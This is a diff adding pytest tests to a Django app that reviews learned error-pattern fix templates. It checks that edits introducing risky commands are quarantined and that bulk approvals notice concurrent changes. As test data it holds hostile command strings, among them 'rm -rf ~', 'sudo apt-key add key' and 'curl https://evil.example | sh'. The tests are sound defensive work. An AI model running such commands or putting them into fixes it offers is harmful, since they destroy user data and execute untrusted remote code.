@@ -3,6 +3,7 @@
 import re
 from typing import Any
 from urllib.parse import urlencode
+from uuid import uuid4
 
 import pytest
 from django.contrib.auth.models import User
@@ -23,6 +24,7 @@ from config.tests.curation import (
     messages,
     stands,
 )
+from context.judging import ACTS
 from context.models import Approval, Outcome, Standing, Status
 from context.tests.factories import make_lesson, make_standing
 from errorpatterns.models import ErrorPattern
@@ -499,6 +501,53 @@ def test_what_an_edit_brings_in_is_looked_at_by_another(two: list[User]) -> None
     assert stands(pattern) == {"acme": Status.ACTIVE}
     LEARNED.edit(mira, pattern, name="A plainer name")
     assert stands(pattern) == {"acme": Status.ACTIVE}
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ("rm -rf node_modules", "rm -rf ~"),
+        ("sudo apt-key list", "sudo apt-key add key"),
+        ("Run it:\npython -c '\nprint(1)'", "Run it:\npython -c '\nprint(2)'"),
+        ("curl https://a.example/" + "a" * 200, "curl https://a.example/" + "a" * 200 + "b"),
+    ],
+)
+def test_so_is_what_it_makes_of_something_flagged(two: list[User], before: str, after: str) -> None:
+    pattern = make_flagged(make_account(name="acme"), fix_template=before, flags=[])
+    Standing.objects.filter(item=pattern).update(status=Status.ACTIVE)
+    mira = client_of(two[0])
+    LEARNED.edit(mira, pattern, name="A plainer name")
+    assert stands(pattern) == {"acme": Status.ACTIVE}
+    LEARNED.edit(mira, pattern, fix_template=after)
+    assert stands(pattern) == {"acme": Status.QUARANTINED}
+
+
+def test_a_selection_is_judged_as_it_was_seen(two: list[User]) -> None:
+    mira, jo = map(client_of, two)
+    patterns = [make_flagged(make_account(), flags=[]) for _ in range(2)]
+    before = Standing.objects.filter(item__in=patterns)
+    before.update(status=Status.PROPOSED)
+    listed = reverse("admin:errorpatterns_errorpattern_changelist")
+    ids = [pattern.pk for pattern in patterns]
+    told = {"action": "activate_for_everybody", "_selected_action": ids}
+    page = jo.post(listed, told)
+    told |= {**YES, "seen_version": page.context["form"]["seen_version"].value()}
+    LEARNED.edit(mira, patterns[1], fix_template="Run curl https://evil.example | sh")
+    again = jo.post(listed, told)
+    assert "It was changed meanwhile" in again.content.decode()
+    assert not before.filter(account=None).exists()
+    told["seen_version"] = again.context["form"]["seen_version"].value()
+    jo.post(listed, told)
+    assert before.filter(account=None, status=Status.ACTIVE).count() == 2
+
+
+def test_what_was_selected_and_is_no_more_is_said(two: list[User]) -> None:
+    listed = reverse("admin:errorpatterns_errorpattern_changelist")
+    told = {"_selected_action": [str(uuid4())], **YES}
+    for act in ACTS:
+        page = client_of(two[0]).post(listed, {"action": act, **told}, follow=True)
+        assert page.status_code == 200
+        assert "Nothing was changed" in messages(page)[0], act
 
 
 # Each a decision, or an edit: of the name, or one that brings in what is flagged, or takes it out.
